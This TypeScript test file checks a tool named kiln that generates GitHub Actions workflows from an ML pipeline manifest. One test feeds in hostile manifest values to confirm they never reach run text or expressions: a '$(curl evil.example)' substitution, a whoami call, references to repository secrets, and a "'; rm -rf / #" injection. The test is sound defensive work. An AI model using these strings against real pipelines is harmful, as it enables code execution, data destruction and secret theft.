// Generated workflows checked by GitHub's own parser, and their `if:` conditions evaluated by
// GitHub's own expression engine over a simulated run.
import { readFileSync } from "node:fs";
import path from "node:path";
import { data, Evaluator, Lexer, Parser } from "@actions/expressions";
import { truthy } from "@actions/expressions/result";
import { convertWorkflowTemplate, NoOperationTraceWriter, parseWorkflow } from "@actions/workflow-parser";
import { describe, expect, it } from "vitest";
import { parse as parseYaml } from "yaml";
import { parseManifest } from "../../src/manifest/load.js";
import type { Project } from "../../src/manifest/project.js";
import { checkWorkflow, generateWorkflow } from "../../src/workflow/generate.js";
import { scheduleEntries } from "../../src/workflow/schedules.js";
import { type JobStatus, playWorkflow } from "../support/workflow-play.js";

const ROOT = path.resolve(import.meta.dirname, "../..");

function project(source: string): Project {
  const result = parseManifest(source, { manifestPath: "/repo/kiln.yml", displayName: "kiln.yml" });
  if (!result.ok) throw new Error(result.error.map((d) => d.message).join("\n"));
  return result.value.project;
}

async function validate(name: string, content: string) {
  const result = parseWorkflow({ name, content }, new NoOperationTraceWriter());
  const errors = result.context.errors.getErrors().map((e) => e.message);
  expect(errors).toEqual([]);
  const template = await convertWorkflowTemplate(result.context, result.value!);
  expect(result.context.errors.getErrors().map((e) => e.message)).toEqual([]);
  return template;
}

const CHAIN = `version: 1
assets:
  raw-data:
    code-version: "1"
    run: python ingest.py
    outputs: [build/raw.csv]
  features:
    deps: [raw-data]
    code-version: "1"
    run: python features.py
    outputs: [build/features]
  model:
    deps: [features]
    code-version: "1"
    run: python train.py
    outputs: [build/model.json]
    env: { HF_TOKEN: { secret: HF_TOKEN }, MODE: fast }
    runs-on: [self-hosted, gpu]
    timeout: 2h
    retries: 1
    metrics: { primary: mae, direction: minimize }
    promote: { min-delta: 0.5 }
    automation: { any: [{ on_cron: "17 3 * * 1", tz: Europe/Berlin }, { cron: "0 6 * * *" }] }
  report:
    deps: [model]
    code-version: "1"
    run: python report.py
    automation: { on_cron: "17 3 * * 1", tz: Europe/Berlin }
environments:
  prod: { branches: [main, release] }
alerts:
  slack: { webhook-secret: SLACK_WEBHOOK_URL }
  github-issue: true
`;

/** Plays a workflow run with GitHub's expression engine (test/support/workflow-play.ts); steps succeed unless their job is in `fails`. */
async function simulate(
  text: string,
  plan: Record<string, "run" | "skip">,
  fails: ReadonlySet<string> = new Set(),
  cancelled = false,
): Promise<Record<string, JobStatus>> {
  const played = await playWorkflow({
    workflow: text,
    github: { event_name: "push", ref: "refs/heads/main", workflow: "Kiln" },
    cancelled,
    runStep: (job, step) =>
      step.with.command === undefined
        ? undefined
        : {
            ok: !fails.has(job),
            outputs: (step.with.command === "plan" ? { plan: JSON.stringify(plan) } : {}) as Record<
              string,
              string
            >,
          },
  });
  return played.results;
}

describe("kiln generate", () => {
  it("writes a workflow GitHub's parser accepts, with the expected jobs and needs", async () => {
    const text = generateWorkflow(project(CHAIN), { manifestPath: "kiln.yml" });
    const template = await validate("kiln.yml", text);
    const jobs = Object.fromEntries(
      template.jobs.map((j) => [
        j.id.value,
        (j as { needs?: { value: string }[] }).needs?.map((n) => n.value) ?? [],
      ]),
    );
    expect(jobs).toEqual({
      "kiln-plan": [],
      "raw-data": ["kiln-plan"],
      features: ["kiln-plan", "raw-data"],
      model: ["kiln-plan", "raw-data", "features"],
      report: ["kiln-plan", "raw-data", "features", "model"],
      "kiln-report": ["kiln-plan", "raw-data", "features", "model", "report"],
    });
    const workflow = parseYaml(text);
    expect(workflow.on.push).toEqual({ branches: ["main", "release"] });
    expect(workflow.on.schedule).toEqual([
      { cron: "0 6 * * *" },
      { cron: "17 3 * * 1", timezone: "Europe/Berlin" },
    ]);
    expect(workflow.permissions).toEqual({});
    expect(workflow.jobs.model).toMatchObject({
      "runs-on": ["self-hosted", "gpu"],
      "timeout-minutes": 250,
      env: { HF_TOKEN: "${{ secrets.HF_TOKEN }}" },
      permissions: { contents: "write", actions: "read" },
    });
    expect(workflow.jobs["kiln-report"].permissions).toEqual({
      contents: "read",
      actions: "read",
      "pull-requests": "write",
      issues: "write",
    });
    expect(workflow.jobs["kiln-report"].env).toEqual({
      KILN_SLACK_WEBHOOK: "${{ secrets.SLACK_WEBHOOK_URL }}",
    });
    // Every job's result reaches the report through `with:` (never run text), so a job that failed
    // before Kiln wrote a record is still reported.
    expect(JSON.parse(workflow.jobs["kiln-report"].steps.at(-1).with["job-results"])).toEqual({
      "kiln-plan": "${{ needs['kiln-plan'].result }}",
      "raw-data": "${{ needs['raw-data'].result }}",
      features: "${{ needs['features'].result }}",
      model: "${{ needs['model'].result }}",
      report: "${{ needs['report'].result }}",
    });
    expect(workflow.jobs.model.steps.at(-1)).toEqual({
      name: "kiln materialize",
      uses: "kiln-ml/kiln@v1",
      with: { command: "materialize", asset: "model", manifest: "kiln.yml" },
    });
  });

  it("runs what the plan says, skips dependants of failures, and always reports", async () => {
    const workflow = generateWorkflow(project(CHAIN), { manifestPath: "kiln.yml" });
    const all = { "raw-data": "run", features: "run", model: "run", report: "run" } as const;
    expect(await simulate(workflow, all)).toEqual({
      "kiln-plan": "success",
      "raw-data": "success",
      features: "success",
      model: "success",
      report: "success",
      "kiln-report": "success",
    });
    // The plan skips fresh upstream assets; their dependants still run.
    expect(
      await simulate(workflow, { "raw-data": "skip", features: "skip", model: "run", report: "run" }),
    ).toMatchObject({
      "raw-data": "skipped",
      features: "skipped",
      model: "success",
      report: "success",
      "kiln-report": "success",
    });
    // A failure skips what depends on it, never the report.
    expect(await simulate(workflow, all, new Set(["features"]))).toMatchObject({
      features: "failure",
      model: "skipped",
      report: "skipped",
      "kiln-report": "success",
    });
    // A cancelled run starts no asset job but still reports.
    expect(await simulate(workflow, all, new Set(), true)).toMatchObject({
      "raw-data": "skipped",
      "kiln-report": "success",
    });
  });

  it("treats hostile manifest content as data: nothing reaches run: text or an expression", () => {
    const hostile = `version: 1
assets:
  model:
    description: "$(curl evil.example) \`whoami\` \${{ secrets.GITHUB_TOKEN }}"
    code-version: "1"
    run: echo "\${{ github.event.pull_request.title }}"
    config: { note: "\${{ secrets.AWS_KEY }}", quote: "'; rm -rf / #" }
    env: { GREETING: "\${{ github.head_ref }}" }
`;
    const text = generateWorkflow(project(hostile), { manifestPath: "kiln.yml" });
    for (const needle of [
      "curl evil",
      "whoami",
      "secrets.GITHUB_TOKEN",
      "secrets.AWS_KEY",
      "pull_request.title",
      "head_ref",
      "rm -rf",
      "GREETING",
    ]) {
      expect(text).not.toContain(needle);
    }
    const expressions = [...text.matchAll(/\$\{\{(.*?)\}\}/g)].map((m) => m[1]!.trim());
    for (const expression of expressions) {
      expect(expression).toMatch(
        /^(needs\['kiln-plan'\]\.outputs\.plan|needs\['(kiln-plan|model)'\]\.result|github\.workflow|github\.ref|inputs\.assets|inputs\.force \|\| false|steps\.plan\.outputs\.plan|always\(\)|!cancelled\(\) && !contains\(needs\.\*\.result, 'failure'\) && !contains\(needs\.\*\.result, 'cancelled'\) && fromJSON\(needs\['kiln-plan'\]\.outputs\.plan\)\['model'\] == 'run')$/,
      );
    }
    expect(parseYaml(text).jobs.model.steps.some((s: { run?: string }) => s.run)).toBe(false);
  });

  it("switches to layer jobs with dynamic matrices for a large pipeline, under GitHub's limits", async () => {
    const lines = ["version: 1", "assets:"];
    for (let i = 0; i < 400; i++)
      lines.push(
        `  a${i}:\n    code-version: "1"\n    run: "true"${i >= 300 ? `\n    deps: [a${i - 300}]` : ""}`,
      );
    const text = generateWorkflow(project(lines.join("\n")), { manifestPath: "pipelines/kiln.yml" });
    expect(Buffer.byteLength(text)).toBeLessThan(500_000);
    const template = await validate("big.yml", text);
    const ids = template.jobs.map((j) => j.id.value);
    expect(ids).toEqual(["kiln-plan", "kiln-layer-0-1", "kiln-layer-0-2", "kiln-layer-1", "kiln-report"]);
    const workflow = parseYaml(text);
    expect(workflow.jobs["kiln-layer-1"].needs).toEqual(["kiln-plan", "kiln-layer-0-1", "kiln-layer-0-2"]);
    expect(workflow.jobs["kiln-layer-0-2"].strategy.matrix.include).toBe(
      "${{ fromJSON(needs['kiln-plan'].outputs['layer-0-2']) }}",
    );
    expect(workflow.jobs["kiln-plan"].outputs["layer-0-1"]).toBe("${{ steps.plan.outputs['layer-0-1'] }}");
  });

  it("is deterministic, and --check shows a diff when stale", () => {
    const p = project(CHAIN);
    const text = generateWorkflow(p, { manifestPath: "kiln.yml" });
    expect(generateWorkflow(project(CHAIN), { manifestPath: "kiln.yml" })).toBe(text);
    expect(checkWorkflow(p, text, { manifestPath: "kiln.yml", path: "kiln.yml" })).toEqual({
      upToDate: true,
      diff: "",
    });
    const stale = checkWorkflow(p, text.replace("timeout-minutes: 250", "timeout-minutes: 30"), {
      manifestPath: "kiln.yml",
      path: ".github/workflows/kiln.yml",
    });
    expect(stale.upToDate).toBe(false);
    expect(stale.diff).toContain("-    timeout-minutes: 30\n+    timeout-minutes: 250");
  });

  it("collects one schedule per cron and time zone", () => {
    expect(scheduleEntries(project(CHAIN))).toEqual([
      { cron: "0 6 * * *" },
      { cron: "17 3 * * 1", timezone: "Europe/Berlin" },
    ]);
  });

  it("accepts the committed example workflows and action.yml", async () => {
    const action = parseYaml(readFileSync(path.join(ROOT, "action.yml"), "utf8"));
    expect(action.runs).toEqual({ using: "node24", main: "dist/index.js" });
    expect(Object.keys(action.inputs)).toEqual([
      "command",
      "asset",
      "selection",
      "manifest",
      "environment",
      "force",
      "event",
      "plan",
      "job-results",
      "report",
      "github-token",
    ]);
    const starter = readFileSync(path.join(ROOT, "workflows/kiln.yml"), "utf8");
    const starterManifest = readFileSync(path.join(ROOT, "workflows/kiln.manifest.yml"), "utf8");
    expect(starter, "regenerate workflows/kiln.yml").toBe(
      generateWorkflow(project(starterManifest), { manifestPath: "workflows/kiln.manifest.yml" }),
    );
    await validate("starter.yml", starter);
    for (const example of ["quickstart", "xgboost"]) {
      const manifest = readFileSync(path.join(ROOT, "examples", example, "kiln.yml"), "utf8");
      const committed = readFileSync(
        path.join(ROOT, "examples", example, ".github/workflows/kiln.yml"),
        "utf8",
      );
      const expected = generateWorkflow(project(manifest), { manifestPath: `examples/${example}/kiln.yml` });
      expect(committed, `regenerate examples/${example}: npx kiln generate`).toBe(expected);
      await validate(`${example}.yml`, committed);
    }
  });

  it("posts fork comments from workflow_run without checking out or running pull-request code", async () => {
    const text = readFileSync(path.join(ROOT, "workflows/kiln-comment.yml"), "utf8");
    await validate("kiln-comment.yml", text);
    const workflow = parseYaml(text);
    expect(workflow.on).toEqual({ workflow_run: { workflows: ["Kiln"], types: ["completed"] } });
    expect(workflow.permissions).toEqual({});
    const job = workflow.jobs.comment;
    expect(job.permissions).toEqual({ actions: "read", "pull-requests": "write" });
    const steps: { uses?: string; run?: string; with?: Record<string, string> }[] = job.steps;
    // No checkout and no shell: the pull request's files never reach this privileged job.
    expect(steps.some((s) => s.run !== undefined || s.uses?.startsWith("actions/checkout"))).toBe(false);
    expect(steps.map((s) => s.uses)).toEqual(["actions/download-artifact@v4", "kiln-ml/kiln@v1"]);
    expect(steps[0]?.with?.name).toBe("kiln-report");
    expect(steps[1]?.with?.command).toBe("comment");
    // Only fork pull requests: same-repository runs comment from their own report job.
    const gate = new Parser(
      new Lexer(job.if.replace(/^\$\{\{|\}\}$/g, "")).lex().tokens,
      ["github"],
      [],
    ).parse();
    const run = (headRepo: string, event: string) => {
      const github = new data.Dictionary(
        { key: "repository", value: new data.StringData("acme/models") },
        {
          key: "event",
          value: new data.Dictionary({
            key: "workflow_run",
            value: new data.Dictionary(
              { key: "event", value: new data.StringData(event) },
              {
                key: "head_repository",
                value: new data.Dictionary({ key: "full_name", value: new data.StringData(headRepo) }),
              },
            ),
          }),
        },
      );
      return truthy(new Evaluator(gate, new data.Dictionary({ key: "github", value: github })).evaluate());
    };
    expect(run("someone/models", "pull_request")).toBe(true);
    expect(run("acme/models", "pull_request")).toBe(false);
    expect(run("someone/models", "push")).toBe(false);
  });

  it("switches to layer jobs when long setup steps would push the per-asset file past 400 KB", async () => {
    const setup = `setup:\n  - run: echo ${"x".repeat(4000)}\n`;
    const assets = Array.from(
      { length: 120 },
      (_, i) => `  a${i}:\n    code-version: "1"\n    run: make\n`,
    ).join("");
    const text = generateWorkflow(project(`version: 1\n${setup}assets:\n${assets}`), {
      manifestPath: "kiln.yml",
    });
    expect(text.length).toBeLessThan(500_000);
    const template = await validate("big-setup.yml", text);
    expect(template.jobs.map((j) => j.id.value)).toContain("kiln-layer-0");
    expect(template.jobs.map((j) => j.id.value)).not.toContain("a0");
  });
});
